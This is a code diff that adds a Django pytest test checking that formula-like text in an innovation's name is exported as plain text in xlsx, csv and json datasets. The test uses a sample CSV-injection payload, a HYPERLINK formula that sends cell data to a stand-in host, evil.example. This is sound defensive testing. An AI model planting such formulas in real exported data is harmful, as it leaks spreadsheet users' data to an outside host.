@@ -5,6 +5,7 @@ import io
 import pytest
 from django.core.files.storage import default_storage
 from django.core.management import CommandError, call_command
+from openpyxl import load_workbook
 
 from satu.audit.models import AuditEntry
 from satu.innovations.models import Innovation
@@ -59,6 +60,28 @@ def test_a_change_of_data_publishes_new_files_and_removes_the_old_ones(
         assert not default_storage.exists(old.files[fmt]["name"])
         ids = {int(row["id"]) for row in read_table(stored("inovasi", fmt), fmt)}
         assert innovation.pk not in ids and len(ids) == new.rows
+
+
+def test_formula_like_text_is_published_as_text(demo):
+    attack = '=HYPERLINK("https://evil.example/?d="&A2,"Unduh")'
+    Publication.objects.filter(slug="inovasi").delete()  # files of this test's own
+    innovation = Innovation.objects.public().first()
+    Innovation.objects.filter(pk=innovation.pk).update(name=attack)
+    services.regenerate_datasets(["inovasi"])
+
+    sheet = load_workbook(io.BytesIO(stored("inovasi", "xlsx"))).worksheets[0]
+    header = [cell.value for cell in sheet[1]]
+    [name] = [
+        row[header.index("nama")]
+        for row in sheet.iter_rows(min_row=2)
+        if row[0].value == innovation.pk
+    ]
+    assert (name.value, name.data_type) == (attack, "s")
+    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)
+    by_id = {int(row["id"]): row for row in read_table(stored("inovasi", "csv"), "csv")}
+    assert by_id[innovation.pk]["nama"] == "'" + attack
+    by_id = {row["id"]: row for row in read_table(stored("inovasi", "json"), "json")}
+    assert by_id[innovation.pk]["nama"] == attack  # JSON is data: the text exactly
 
 
 class BrokenInnovations(InnovationDataset):
